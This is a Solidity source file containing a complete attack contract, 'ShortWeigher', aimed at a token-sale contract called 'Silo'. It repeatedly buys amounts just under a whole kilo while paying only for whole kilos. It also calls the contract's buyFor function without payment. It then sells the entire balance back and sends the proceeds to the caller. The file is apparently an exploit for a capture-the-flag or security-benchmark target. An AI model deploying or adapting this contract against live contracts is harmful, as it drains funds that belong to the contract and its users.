// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ISilo {
    function buy(uint256 grams) external payable;

    function buyFor(address receiver, uint256 grams) external payable;

    function sellBack(uint256 grams) external;

    function costOf(uint256 grams) external view returns (uint256);

    function askPerKilo() external view returns (uint256);

    function balanceOf(address account) external view returns (uint256);
}

/// Buys amounts just short of a whole kilo, whose last part is free, and sells all of it back.
contract ShortWeigher {
    function run(ISilo silo, uint256 times, uint256 kilosPaid) external payable {
        uint256 cost = kilosPaid * silo.askPerKilo();
        for (uint256 i = 0; i < times; i++) silo.buy{value: cost}(kilosPaid * 1000 + 999);
        finish(silo);
    }

    function runFor(ISilo silo, uint256 times, uint256 grams) external payable {
        for (uint256 i = 0; i < times; i++) silo.buyFor(address(this), grams);
        finish(silo);
    }

    function finish(ISilo silo) private {
        silo.sellBack(silo.balanceOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
